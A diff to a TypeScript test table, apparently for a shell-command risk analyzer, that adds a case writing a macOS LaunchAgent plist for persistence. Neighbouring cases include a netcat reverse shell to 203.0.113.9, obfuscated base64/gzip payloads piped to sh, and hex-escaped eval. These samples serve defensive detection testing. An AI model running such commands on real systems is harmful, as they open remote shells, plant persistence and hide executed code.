@@ -82,6 +82,7 @@ const CASES: Array<[string, string[]]> = [
   ['docker run -d --restart always --name x -v /srv:/srv alpine nc 203.0.113.9 4444 -e /bin/sh', ['docker run -d --restart always --name x -v /srv:/srv alpine nc 203.0.113.9 4444 -e /bin/sh', 'remote:nc 203.0.113.9 4444 -e /bin/sh']],
   ['docker -H tcp://10.0.0.5:2375 run --rm node:20 npm test', ['docker -H tcp://10.0.0.5:2375 run --rm node:20 npm test', 'remote:npm test']],
   ['docker run -p 8080:80 nginx', ['docker run -p 8080:80 nginx']],
+  [`printf '<plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>id</string></array></dict></plist>' > ~/Library/LaunchAgents/x.plist`, ['printf <plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>id</string></array></dict></plist>', 'persisted:/bin/sh -c id', 'shell-c:id']],
   [`echo ${gzipSync('id\n').toString('base64')} | base64 -d | gunzip | sh`, [`echo ${gzipSync('id\n').toString('base64')}`, 'base64 -d', 'gunzip', 'sh', 'piped-to-shell:id']],
   [`echo ${brotliCompressSync('id\n').toString('base64')} | base64 -d | brotli -d | sh`, [`echo ${brotliCompressSync('id\n').toString('base64')}`, 'base64 -d', 'brotli -d', 'sh', 'piped-to-shell:id']],
   ["f(){ eval \"$(printf '%b' \"$1\")\"; }; f '\\x69\\x64'", ['substitution:printf %b ', 'eval ', 'eval:id', 'f \\x69\\x64']],
